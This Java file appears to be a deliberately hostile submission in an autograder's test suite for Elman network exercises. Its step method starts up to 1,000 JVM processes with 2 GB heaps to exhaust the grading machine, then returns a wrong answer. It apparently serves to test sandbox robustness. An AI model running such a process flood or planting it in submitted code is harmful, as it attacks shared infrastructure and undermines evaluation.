package e02_elman;

import java.io.IOException;
import java.nio.file.Path;
import org.ejml.data.DMatrixRMaj;

// Attack: processes without end
// Deserves: what the wrong answer deserves
public class Elman extends Wrong {
  @Override
  public Step step(Weights weights, DMatrixRMaj x, DMatrixRMaj h) {
    String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
    for (int i = 0; i < 1_000; i++) {
      try {
        new ProcessBuilder(java, "-Xmx2g", "-version").start();
      } catch (IOException e) {
        break;
      }
    }
    return super.step(weights, x, h);
  }
}
